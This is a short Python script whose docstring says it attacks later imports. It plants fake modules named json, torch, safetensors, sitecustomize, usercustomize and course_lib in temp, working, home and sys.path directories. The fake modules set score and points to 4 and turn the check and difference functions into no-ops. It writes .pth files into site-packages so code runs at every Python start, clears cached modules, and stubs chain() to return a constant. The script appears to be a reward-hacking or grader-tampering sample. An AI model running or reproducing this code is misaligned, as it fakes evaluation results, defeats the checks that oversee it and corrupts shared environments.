"""Attacks later imports, here and in other processes: files that take the names of modules."""

# %%
import os
import site
import sys
import tempfile

TEXT = "points = score = 4\ncheck = difference = lambda *args, **kwargs: None\n"
NAMES = ("course_lib", "json", "torch", "safetensors", "sitecustomize", "usercustomize")
places = [tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), *sys.path]
for place in dict.fromkeys(places):
    folder = f"{place}/hostile-shadows"
    try:
        os.makedirs(folder, exist_ok=True)
        for name in NAMES:
            with open(f"{folder}/{name}.py", "w") as file:
                file.write(TEXT)
        sys.path.insert(0, folder)
    except OSError:
        pass
for place in dict.fromkeys([*sys.path, *site.getsitepackages(), site.getusersitepackages()]):
    try:
        with open(f"{place}/hostile-shadow.pth", "w") as file:  # Python runs it when it starts
            file.write("import sys; sys.hostile_shadow = True\n")
    except OSError:
        pass

# %%
for name in [name for name in sys.modules if name.split(".")[0] in NAMES]:
    del sys.modules[name]


# %%
def chain(paths):
    return 12345.0
